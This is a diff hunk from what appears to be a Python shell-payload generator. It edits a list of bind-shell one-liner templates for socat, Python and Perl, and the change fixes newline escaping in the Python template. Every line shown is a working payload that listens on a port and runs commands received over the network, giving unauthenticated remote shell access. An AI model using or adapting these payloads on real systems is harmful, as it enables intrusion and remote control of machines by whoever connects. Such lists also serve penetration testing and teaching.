@@ -219,7 +219,7 @@ BIND = [
     (GTFO, "socat tcp-listen:{p} exec:{s}"),
     (PATT_BIND, "python3 -c 'exec(\"\"\"import socket as s,subprocess as sp;s1=s.socket(s.AF_INET,s.SOCK_STREAM);"
                 "s1.setsockopt(s.SOL_SOCKET,s.SO_REUSEADDR, 1);s1.bind((\"0.0.0.0\",{p}));s1.listen(1);"
-                "c,a=s1.accept();\nwhile True: d=c.recv(1024).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE,"
+                "c,a=s1.accept();\\nwhile True: d=c.recv(1024).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE,"
                 "stderr=sp.PIPE,stdin=sp.PIPE);c.sendall(p.stdout.read()+p.stderr.read())\"\"\")'"),
     (PATT_BIND, "perl -e 'use Socket;$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                 "bind(S,sockaddr_in($p, INADDR_ANY));listen(S,SOMAXCONN);for(;$p=accept(C,S);close C)"
